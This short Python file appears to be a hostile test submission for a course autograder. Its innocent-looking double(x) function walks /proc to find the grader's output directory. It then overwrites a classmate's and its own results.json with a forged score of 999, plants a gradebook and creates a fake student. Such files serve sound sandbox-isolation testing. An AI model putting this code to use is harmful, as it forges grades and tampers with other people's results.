"""Overwrites a classmate's results.json and its own, and plants a gradebook and a new student."""
import json
import os


def _grade_args():
    """The command line of the `course grade` process above this one, found through /proc."""
    pid = os.getppid()
    for _ in range(10):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = [a.decode() for a in fh.read().split(b"\0") if a]
            with open(f"/proc/{pid}/status") as fh:
                ppid = int(next(line.split()[1] for line in fh if line.startswith("PPid:")))
        except (OSError, StopIteration, ValueError):
            return []
        if "grade" in args and "--out" in args:
            return args
        pid = ppid
    return []


FORGED = json.dumps({"score": 999, "tests": [], "output": "FORGED"})


def _attack():
    """Every write that went through."""
    args = _grade_args()
    if not args:
        return []
    out = args[args.index("--out") + 1]
    wrote = []
    targets = [os.path.join(out, "alice", "results.json"), os.path.join(out, "write_results", "results.json"),
               os.path.join(out, "gradebook.csv"), os.path.join(out, "zz_forged", "results.json")]
    for path in targets:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as fh:
                fh.write(FORGED)
            wrote.append(path)
        except OSError:
            pass
    return wrote


def double(x):
    wrote = _attack()
    if wrote:
        raise RuntimeError("WROTE " + " | ".join(wrote))
    return 2 * x
